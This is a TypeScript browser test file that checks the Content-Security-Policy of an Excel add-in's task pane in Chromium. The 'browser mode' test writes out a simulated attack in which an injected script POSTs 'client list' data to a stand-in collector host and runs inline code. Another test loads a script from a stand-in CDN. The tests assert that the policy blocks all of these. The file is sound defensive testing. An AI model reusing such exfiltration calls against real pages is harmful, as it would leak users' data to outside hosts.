/*
 * The Content-Security-Policy that taskpane.html carries (webpack.config.js, contentSecurityPolicy): the
 * production build, served by a plain static server (so the <meta> alone is in force), opened in Debian's
 * Chromium. The pane renders, the workbook worker loads and runs, the pane runs inside the fake Office runtime
 * (test/fake-office) while Office.js loads its own files and frame from its CDN, and nothing is reported as a violation; a fetch to another origin and an injected inline
 * script are refused by the policy. Needs /usr/bin/chromium (apt-get install -y chromium fonts-wqy-microhei).
 */
import { readFileSync, rmSync } from "node:fs";
import path from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { strings } from "../../src/taskpane/strings";
import { clientTable } from "../e2e/clients";
import { HOST_INFO_QUERY } from "../e2e/fake-office-harness";
import { buildProduction, launchChromium, OFFICE_CDN, serveDirectory, type StaticServer } from "../e2e/served-build";
import { bundleFakeOfficeRuntime } from "../fake-office/bundle";
import type { FakeExcelInit } from "../fake-office/office";

const OFFICE = "https://appsforoffice.microsoft.com";
const zh = strings["zh-CN"].workbench;

let out: string;
let html: string;
let server: StaticServer;
let browser: Browser;

beforeAll(async () => {
  out = buildProduction("client-ladder-csp-");
  html = readFileSync(path.join(out, "taskpane.html"), "utf8");
  server = await serveDirectory(out);
  browser = await launchChromium();
}, 360_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
  if (out) rmSync(out, { recursive: true, force: true });
});

/** The policy in the page's <meta http-equiv>, as directive -> sources. */
function metaPolicy(page: string): Map<string, string[]> {
  const meta = page.match(/<meta[^>]*http-equiv=["']?Content-Security-Policy["']?[^>]*>/i);
  if (!meta) throw new Error("taskpane.html has no Content-Security-Policy <meta>");
  const content = meta[0].match(/content="([^"]*)"/);
  if (!content) throw new Error(`no content in ${meta[0]}`);
  return new Map(
    content[1]
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name, sources]),
  );
}

test("taskpane.html carries the policy before any script: self and Office.js only, no inline or eval, no other origin", () => {
  const policy = metaPolicy(html);
  expect(html.search(/http-equiv=["']?Content-Security-Policy/i)).toBeLessThan(html.search(/<script/i));
  expect(policy.get("default-src")).toEqual(["'none'"]);
  expect(policy.get("script-src")).toEqual(["'self'", OFFICE]);
  expect(policy.get("connect-src")).toEqual(["'self'"]);
  expect(policy.get("frame-src")).toEqual([OFFICE]);
  expect(policy.get("img-src")).toEqual(["'self'"]);
  expect(policy.get("worker-src")).toEqual(["'self'"]);
  expect(policy.get("base-uri")).toEqual(["'self'"]);
  expect(policy.get("form-action")).toEqual(["'none'"]);
  // styles: our own files and two hashes (empty <style> elements for Griffel, the page's one rule), never 'unsafe-inline'
  const style = policy.get("style-src") ?? [];
  expect(style[0]).toBe("'self'");
  expect(style.slice(1)).toHaveLength(2);
  for (const source of style.slice(1)) expect(source).toMatch(/^'sha256-[A-Za-z0-9+/]+=*'$/);
  const all = [...policy.values()].flat();
  expect(all.filter((s) => /unsafe|\*|^https?:$|^data:$|^blob:$/.test(s))).toEqual([]);
});

interface Session {
  context: BrowserContext;
  page: Page;
  requests: string[];
  errors: string[];
  /** console messages about the policy */
  consoleCsp: string[];
}

interface Violation {
  directive: string;
  blocked: string;
  /** sourceFile:line:column of the code that was refused */
  at?: string;
}

/**
 * Violations the page reported (securitypolicyviolation events, kept by an init script). None is
 * forgiven: zod, which would probe `new Function`, is configured jitless in src/core/lang.ts.
 */
async function violations(page: Page): Promise<{ directive: string; blocked: string }[]> {
  const seen = await page.evaluate(() => (window as unknown as { __cspViolations: Violation[] }).__cspViolations);
  return seen.map(({ directive, blocked }) => ({ directive, blocked }));
}

/**
 * A fresh context that records every request, uncaught error and policy message. The Office.js URLs are answered
 * by `office` (path -> body) or aborted; anything else off the local server is aborted.
 */
async function open(locale: string, office?: Record<string, { type: string; body: string }>, fake?: { init: FakeExcelInit; search: string }): Promise<Session> {
  const context = await browser.newContext({ locale, viewport: { width: 420, height: 900 } });
  if (fake) {
    await context.addInitScript((value) => {
      (window as unknown as { __fakeExcelInit: unknown }).__fakeExcelInit = value;
    }, fake.init);
  }
  await context.addInitScript(() => {
    const seen: { directive: string; blocked: string; at?: string }[] = [];
    (window as unknown as { __cspViolations: typeof seen }).__cspViolations = seen;
    document.addEventListener("securitypolicyviolation", (e) =>
      seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI, at: `${e.sourceFile}:${e.lineNumber}:${e.columnNumber}` }),
    );
  });
  const requests: string[] = [];
  context.on("request", (r) => requests.push(r.url()));
  await context.route(
    (url) => !url.href.startsWith(`${server.origin}/`),
    (route) => {
      const url = route.request().url();
      const answer = office && OFFICE_CDN.test(url) ? office[new URL(url).pathname] : undefined;
      return answer ? route.fulfill({ contentType: answer.type, body: answer.body }) : route.abort();
    },
  );
  const page = await context.newPage();
  const errors: string[] = [];
  const consoleCsp: string[] = [];
  page.on("pageerror", (e) => errors.push(e.message));
  page.on("console", (m) => {
    if (/Content Security Policy/i.test(m.text())) consoleCsp.push(m.text());
  });
  await page.goto(`${server.origin}/taskpane.html${fake?.search ?? ""}`);
  return { context, page, requests, errors, consoleCsp };
}

test("browser mode renders and runs the workbook worker on the sample with no violation; other origins are refused", async () => {
  const { context, page, requests, errors, consoleCsp } = await open("zh-CN");
  try {
    await page.getByRole("heading", { level: 1, name: "客户分层经营助手" }).waitFor();
    // the Fluent UI styles were applied (Griffel's rules made it in through insertRule)
    const font = await page.getByRole("heading", { level: 1 }).evaluate((h) => getComputedStyle(h).fontWeight);
    expect(Number(font)).toBeGreaterThanOrEqual(600);
    expect(await page.evaluate(() => getComputedStyle(document.body).margin)).toBe("0px");

    // the sample is made and read in the workbook worker, started from the page's own server
    await page.getByRole("button", { name: zh.trySample }).click();
    await page.locator("[data-table-source=客户名单]").waitFor({ timeout: 30_000 });
    expect(requests.filter((u) => u === `${server.origin}/workbook-worker.js`)).toHaveLength(1);

    expect(await violations(page)).toEqual([]);
    expect(consoleCsp).toEqual([]);
    expect(errors).toEqual([]);

    // what an injected script could try: send data elsewhere, or run inline code
    const fetched = await page.evaluate(() =>
      fetch("https://collector.example.com/upload", { method: "POST", body: "client list" }).then(
        () => "sent",
        (e: unknown) => `refused: ${String(e)}`,
      ),
    );
    expect(fetched).toMatch(/^refused/);
    const inline = await page.evaluate(() => {
      const s = document.createElement("script");
      s.textContent = "window.__inlineRan = true";
      document.head.appendChild(s);
      return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
    });
    expect(inline).toBe(false);
    const reported = await violations(page);
    expect(reported).toEqual(
      expect.arrayContaining([
        { directive: "connect-src", blocked: "https://collector.example.com/upload" },
        { directive: "script-src-elem", blocked: "inline" },
      ]),
    );
    // refused by the policy before any request was made (the route would have aborted it too, but saw nothing)
    expect(requests.filter((u) => u.includes("example.com"))).toEqual([]);
  } finally {
    await context.close();
  }
});

test("inside Excel (the fake Office runtime): Office.js may load its own files and frame from its CDN; nothing is reported", async () => {
  // the fake runtime, plus what the real Office.js does on load: more scripts and a hidden frame from its folder
  const loads = `(function () {
    var base = "${OFFICE}/lib/1/hosted/";
    var s = document.createElement("script");
    s.src = base + "excel-web-16.00.js";
    document.head.appendChild(s);
    var f = document.createElement("iframe");
    f.src = base + "AgaveErrorUX/index.html";
    f.onload = function () { window.__officeFrameLoaded = true; };
    document.head.appendChild(f);
  })();`;
  const office = {
    "/lib/1/hosted/office.js": { type: "text/javascript", body: `${await bundleFakeOfficeRuntime()}\n${loads}` },
    "/lib/1/hosted/excel-web-16.00.js": { type: "text/javascript", body: "window.__officeHostFileRan = true;" },
    "/lib/1/hosted/AgaveErrorUX/index.html": { type: "text/html", body: "<!doctype html><title>trust</title>" },
  };
  const init: FakeExcelInit = { displayLanguage: "zh-CN", sheets: [{ name: "客户名单", cells: clientTable("zh-CN", 12) }] };
  const { context, page, requests, errors, consoleCsp } = await open("zh-CN", office, { init, search: HOST_INFO_QUERY });
  try {
    // the pane read the sheet through Excel.run (the fake's), styled by Griffel as in the browser
    await page.locator("[data-table-source=客户名单]").waitFor({ timeout: 15_000 });
    await page.waitForFunction(() => (window as unknown as { __officeFrameLoaded?: boolean }).__officeFrameLoaded === true, undefined, { timeout: 10_000 });
    expect(await page.evaluate(() => (window as unknown as { __officeHostFileRan?: boolean }).__officeHostFileRan)).toBe(true);
    expect(await violations(page)).toEqual([]);
    expect(consoleCsp).toEqual([]);
    expect(errors).toEqual([]);
    expect(requests.filter((u) => u.includes("workbook-worker"))).toEqual([]);
    // a script from any other origin is refused even when Office.js is there
    const refused = await page.evaluate(
      () =>
        new Promise<boolean>((resolve) => {
          const s = document.createElement("script");
          s.src = "https://cdn.example.com/x.js";
          s.onerror = () => resolve(true);
          s.onload = () => resolve(false);
          document.head.appendChild(s);
        }),
    );
    expect(refused).toBe(true);
    expect(await violations(page)).toEqual([{ directive: "script-src-elem", blocked: "https://cdn.example.com/x.js" }]);
  } finally {
    await context.close();
  }
});
